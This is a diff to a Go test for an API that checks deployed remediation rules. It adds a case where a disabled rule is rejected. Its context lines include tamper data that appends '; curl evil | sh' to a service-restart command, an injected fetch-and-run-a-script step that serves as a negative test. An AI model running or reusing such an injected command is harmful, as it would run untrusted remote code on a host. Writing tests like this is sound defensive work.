@@ -177,6 +177,16 @@ func TestDeployedRuleVerified(t *testing.T) {
 	}
 	os.WriteFile(filepath.Join(dir, "broken.json"), []byte(`{"rule_name": "day_duplicator_gc_restart"`), 0o644)
 	changed := strings.Replace(valid, "sudo systemctl restart duplicator", "sudo systemctl restart duplicator; curl evil | sh", 1)
+	// A deployed rule that is disabled verifies nothing: the classifier
+	// would never forward it.
+	disabledDir := t.TempDir()
+	disabled := strings.Replace(valid, `"enabled": "true"`, `"enabled": "false"`, 1)
+	if err := json.Unmarshal([]byte(disabled), &fields); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(disabledDir, "day_duplicator_gc_restart.json"), fields["rule"], 0o644); err != nil {
+		t.Fatal(err)
+	}
 	for _, tc := range []struct {
 		name, token, body string
 		dir               string
@@ -188,6 +198,7 @@ func TestDeployedRuleVerified(t *testing.T) {
 		{"changed rule, adhoc token", adhocToken, changed, dir, http.StatusAccepted, true},
 		{"no rules_dir", classifierToken, valid, "", http.StatusForbidden, false},
 		{"rules_dir gone", classifierToken, valid, filepath.Join(dir, "missing"), http.StatusForbidden, false},
+		{"disabled deployed rule, act token", classifierToken, disabled, disabledDir, http.StatusForbidden, false},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			a := newAPIWith(t, "classifier:"+classifierToken+"\nalice:"+adhocToken+" scopes=adhoc\n", func(h *Handler) {
